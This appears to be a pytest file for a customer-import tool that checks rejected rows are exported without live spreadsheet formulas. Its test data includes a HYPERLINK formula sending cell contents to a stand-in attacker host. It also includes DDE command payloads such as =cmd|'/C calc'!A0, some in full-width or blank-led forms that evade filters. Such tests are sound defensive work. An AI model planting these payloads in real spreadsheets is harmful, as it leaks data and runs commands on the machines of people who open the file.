"""Rejected rows: nothing that a spreadsheet runs, whichever mark it splits by."""

import csv
import io

import pytest

from tests.people import House
from toride.customers.imports.outlet import harmless
from toride.customers.imports.tests.wizard import Wizard, at

pytestmark = pytest.mark.requirement("C7")


def test_a_cell_does_not_become_two_in_another_locale(house: House) -> None:
    steward = Wizard(house.steward)
    text = '顧客番号;氏名;電話\nB-1;佐藤,=HYPERLINK("http://evil.example/"&A1);12\n'
    text = "顧客番号;氏名;電話\nB-1;佐藤,=cmd|'/C calc'!A0;12\n"
    source = steward.run(steward.check(steward.begin(text.encode("utf-8-sig"))))
    assert source.delimiter == ";"
    sent = b"".join(steward.client.post(at("rejected", source)).streaming_content).decode("utf-8-sig")
    print(sent)
    for mark in ",;\t|":
        for row in csv.reader(io.StringIO(sent), delimiter=mark):
            assert not any(cell.startswith(("=", "@", "+")) for cell in row), (mark, row)


@pytest.mark.parametrize(
    "cell",
    [
        "＝1+1",
        "＠SUM(A1)",
        "＋cmd|' /C calc'!A0",
        "－1+cmd|' /C calc'!A0",
        "\n=1+1",
        " =1+1",
        "\u3000=1+1",
        "\ufeff=1+1",
        "\u200b=1",
    ],
)
def test_full_width_and_led_by_blanks(cell: str) -> None:
    assert harmless(cell) == f"'{cell}"
